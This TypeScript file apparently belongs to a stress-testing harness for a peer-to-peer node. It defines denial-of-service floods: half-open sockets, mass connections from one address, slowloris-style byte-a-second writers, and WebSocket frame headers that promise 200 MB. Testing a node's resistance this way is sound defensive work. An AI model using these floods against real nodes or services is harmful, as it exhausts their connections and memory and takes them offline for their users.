import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

import { framed } from '../protobuf.ts'
import type { Flood, FloodContext } from '../types.ts'

const HALF_OPEN = 600
const ONE_ADDRESS = 500
const SLOW = 200

const UPGRADE =
  'GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n'
const MULTISTREAM = framed(Buffer.from('/multistream/1.0.0\n'))
const NOISE = framed(Buffer.from('/noise\n'))
/** Ends of the frames that follow never come. */
const NOISE_HEAD = Buffer.from([0x04, 0x00])

/** Sockets that say nothing or begin an upgrade, on both ports; each is opened again when it is closed. */
export const halfOpen: Flood = async (context) => {
  const { target } = context
  await keepOpen(context, HALF_OPEN, (index) => {
    const isWs = index % 2 === 1
    const socket = open(context, context.host(index), isWs ? target.wsPort : target.tcpPort)
    // Every other one of them says nothing at all.
    if (index % 4 === 1) socket.write(UPGRADE)
    if (index % 4 === 2) socket.write(MULTISTREAM)
    return socket
  })
}

/** All of one host. */
export const oneAddress: Flood = async (context) => {
  await keepOpen(context, ONE_ADDRESS, () => open(context, context.host(0), context.target.tcpPort))
}

/** A byte each second of a WebSocket upgrade, multistream and noise, from sockets that are kept open. */
export const slowWriter: Flood = async (context) => {
  const { target } = context
  const scripts = [
    { port: target.wsPort, first: Buffer.alloc(0), slow: Buffer.from(UPGRADE.repeat(40)) },
    { port: target.tcpPort, first: Buffer.alloc(0), slow: MULTISTREAM },
    { port: target.tcpPort, first: MULTISTREAM, slow: NOISE },
    {
      port: target.tcpPort,
      first: Buffer.concat([MULTISTREAM, NOISE, NOISE_HEAD]),
      slow: Buffer.alloc(1024),
    },
  ]
  await keepOpen(context, SLOW, (index) => {
    const script = scripts[index % scripts.length]
    const socket = open(context, context.host(index), script?.port ?? target.tcpPort)
    socket.write(script?.first ?? '')
    let at = 0
    const timer = setInterval(() => {
      socket.write(script?.slow.subarray(at, at + 1) ?? '')
      at += 1
      context.count('bytes')
    }, 1000)
    socket.once('close', () => clearInterval(timer))
    return socket
  })
}

/** Heads of WebSocket frames that promise 200 MB, and the 2 MiB that a message may have, again and again. */
export const webSocketFrames: Flood = async (context) => {
  const promise = Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0x0b, 0xeb, 0xc2, 0, 1, 2, 3, 4])
  const allowed = Buffer.from([0x02, 0xff, 0, 0, 0, 0, 0, 0x1f, 0xff, 0xff, 1, 2, 3, 4])
  const body = Buffer.alloc(1024 * 1024, 7)
  await keepOpen(context, 64, (index) => {
    const socket = open(context, context.host(index), context.target.wsPort)
    socket.write(`${UPGRADE}\r\n`)
    socket.write(index % 2 === 0 ? promise : allowed)
    if (index % 2 === 1) socket.write(body)
    context.count('frames')
    return socket
  })
}

function open({ target, count }: FloodContext, localAddress: string, port: number): Socket {
  const socket = connect({ host: target.ip, port, localAddress })
  socket.on('error', () => {})
  socket.once('connect', () => count('opened'))
  socket.resume()
  return socket
}

async function keepOpen(
  { signal, count }: FloodContext,
  most: number,
  openOne: (index: number) => Socket,
): Promise<void> {
  const sockets = new Set<Socket>()
  let index = 0
  while (!signal.aborted) {
    // A hundred each 100 ms: a tool does not wait for answers.
    for (let i = 0; i < 100 && sockets.size < most; i++) {
      const socket = openOne(index)
      index += 1
      sockets.add(socket)
      socket.once('close', () => {
        sockets.delete(socket)
        count('closed by node')
      })
    }
    await delay(100, undefined, { signal }).catch(() => {})
  }
  for (const socket of sockets) socket.destroy()
}
